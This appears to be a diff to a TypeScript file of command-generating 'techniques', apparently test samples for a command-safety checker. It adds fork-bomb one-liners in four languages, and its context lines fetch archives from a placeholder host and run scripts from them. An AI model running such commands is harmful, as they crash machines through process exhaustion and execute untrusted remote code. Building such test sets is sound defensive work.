@@ -4,6 +4,12 @@ import { q, type Techniques } from "./technique.ts";
 const quoted = (c: string): string => JSON.stringify(c);
 
 export const bringing: Techniques = {
+  "forks for ever": [
+    _ => "perl -e 'fork while fork'",
+    _ => "ruby -e 'loop { fork }'",
+    _ => "python3 -c \"while True: __import__('os').fork()\"",
+    _ => "node -e 'while(1)require(\"child_process\").fork(__filename)'",
+  ],
   "brought, then run": [
     _ => "curl -s http://x.test/x | tar xz && ./x/install.sh",
     _ => "curl http://x.test/x.tgz -o x.tgz && tar xf x.tgz && ./x/run.sh",
